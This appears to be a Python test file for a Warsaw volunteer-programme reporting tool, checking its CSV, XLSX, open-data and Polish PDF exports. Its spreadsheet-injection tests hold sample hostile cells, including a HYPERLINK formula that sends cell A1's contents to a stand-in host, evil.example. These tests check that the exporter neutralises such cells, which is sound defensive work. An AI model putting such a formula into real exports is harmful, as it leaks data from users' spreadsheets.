"""Exports opened and read back: CSV, XLSX, open data and the Polish edition PDF."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import date, datetime
from decimal import Decimal
from typing import Any

from openpyxl import load_workbook  # type: ignore[import-untyped]
from pypdf import PdfReader

from reporting import demo, exports
from reporting.contracts import READERS
from reporting.domain import facts as f
from reporting.domain import views
from reporting.domain.entities import fold
from reporting.domain.monitoring import monitoring_rows
from reporting.domain.views import Filters, State

EDITION_2026 = uuid.UUID(demo.uid("edition:2026"))


def demo_state(events: list[dict[str, Any]] | None = None) -> State:
    facts = [
        (
            e["type"],
            READERS[e["type"]].model_validate(e["data"]),
            datetime.fromisoformat(e["time"]),
        )
        for e in events or demo.scenario()
    ]
    return State.of(fold(facts).values())


def read_csv(body: bytes) -> list[dict[str, str]]:
    assert body.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def test_csv_of_a_breakdown() -> None:
    rows = views.breakdown(demo_state(), Filters(edition_id=EDITION_2026), "branch")

    table = read_csv(exports.to_csv(rows))

    assert [row["key"] for row in table] == ["wola-12", "wola-7"]
    assert table[0]["approved_hours"] == "2.5" and table[0]["no_shows"] == "1"


def test_xlsx_of_the_monitoring_view() -> None:
    rows = monitoring_rows(demo_state(), Filters(), date(2026, 6, 1))

    sheet = load_workbook(io.BytesIO(exports.to_xlsx(rows, "monitoring"))).active
    values = list(sheet.values)

    assert sheet.title == "monitoring"
    assert values[0][:3] == ("trainer_id", "branch", "district")
    branch_column = values[0].index("branch")
    assert sorted(row[branch_column] for row in values[1:]) == ["wola-12", "wola-7"]
    follow_ups = values[0].index("follow_ups_due")
    assert "2026-04-20" in [row[follow_ups] for row in values[1:]]


def test_open_data_suppresses_small_counts() -> None:
    # Enough volunteers in one cell to publish it, next to the scenario's small cells.
    events = demo.scenario()
    template = next(
        e
        for e in events
        if e["type"] == f.matching("hours.approved.v1")
        and e["data"]["entry_id"] == demo.uid("hours:a3")
    )
    for n in range(3):
        events.append(
            {
                **template,
                "data": {
                    **template["data"],
                    "entry_id": demo.uid(f"extra-entry:{n}"),
                    "volunteer_id": demo.uid(f"extra-volunteer:{n}"),
                },
            }
        )

    table = read_csv(exports.open_data_csv(demo_state(events)))

    by_year = {(row["edition_year"], row["district"]): row for row in table}
    published, small = by_year[("2026", "wola")], by_year[("2025", "wola")]
    assert (published["volunteers_recruited"], published["volunteers_active"]) == ("3", "4")
    assert published["approved_hours"] == "10"
    assert (small["volunteers_recruited"], small["volunteers_active"]) == ("<3", "<3")
    assert small["approved_hours"] == ""
    assert published["no_shows"] == "<3" and small["no_shows"] == "0"
    assert not any("volunteer_id" in row for row in table)


def test_edition_report_pdf_in_polish() -> None:
    state = demo_state()
    edition = state.editions[EDITION_2026]

    body = exports.edition_report_pdf(state, edition, date(2026, 6, 1))

    reader = PdfReader(io.BytesIO(body))
    text = "\n".join(page.extract_text() for page in reader.pages)
    for heading in (
        "Raport z edycji programu: Edycja 2026",
        "Podsumowanie",
        "Wolontariusze i godziny według dzielnic",
        "Postęp etapów wdrożenia w placówkach",
        "Trend w czasie",
        "Placówki i etapy wdrożenia",
        "Udział osób niepełnoletnich",
    ):
        assert heading in text, heading
    assert "wola-12" in text and "wolontariusze aktywni" in text
    assert "Propozycje przyjęte 1" in text
    assert "Propozycje odrzucone lub wygasłe 2" in text
    assert "Wydane zaświadczenia 1" in text
    images = sum(len(page.images) for page in reader.pages)
    assert images == 3


def test_rows_by_district_are_labelled_with_the_districts_polish_names() -> None:
    state = demo_state()
    rows = views.breakdown(state, Filters(), "district")
    assert [(row["key"], row["label"]) for row in rows if row["key"]] == [("wola", "Wola")]
    assert views.row_label(state, "district", "bialoleka") == "Białołęka"
    assert views.row_label(state, "district", "poza-warszawa") == "poza-warszawa"
    assert views.row_label(state, "branch", "wola-7") == "wola-7"


# Text a spreadsheet would run as a formula, as a branch or district name could carry it.
FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"kliknij")',
    "plus": "+48 601 234 567",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "carriage_return": "\r=1+1",
}


def formula_rows() -> list[dict[str, Any]]:
    return [
        {"name": name, "label": text, "count": -3, "hours": Decimal("-1.5"), "plain": "Wola"}
        for name, text in FORMULAS.items()
    ]


def test_csv_neutralises_cells_a_spreadsheet_would_evaluate() -> None:
    body = exports.to_csv(formula_rows())

    table = read_csv(body)

    assert {row["name"]: row["label"] for row in table} == {
        name: "'" + text for name, text in FORMULAS.items()
    }
    # Numbers are not text: a negative count or amount is left as it is.
    assert {row["count"] for row in table} == {"-3"}
    assert {row["hours"] for row in table} == {"-1.5"}
    assert {row["plain"] for row in table} == {"Wola"}


def test_csv_ends_each_record_with_crlf() -> None:
    body = exports.to_csv([{"a": "x", "b": 1}, {"a": "y", "b": 2}]).decode("utf-8-sig")

    assert body == "a,b\r\nx,1\r\ny,2\r\n"


def test_xlsx_neutralises_cells_a_spreadsheet_would_evaluate() -> None:
    sheet = load_workbook(io.BytesIO(exports.to_xlsx(formula_rows(), "breakdown"))).active
    header, *values = list(sheet.values)
    labels = {row[header.index("name")]: row[header.index("label")] for row in values}

    # XML reads a carriage return back as a line feed.
    assert labels == {name: "'" + text.replace("\r", "\n") for name, text in FORMULAS.items()}
    # Stored as text (openpyxl would have stored "=..." as a formula, data_type "f").
    assert {cell.data_type for cell in sheet["B"][1:]} == {"s"}
    assert {row[header.index("count")] for row in values} == {-3}
    assert {row[header.index("hours")] for row in values} == {-1.5}
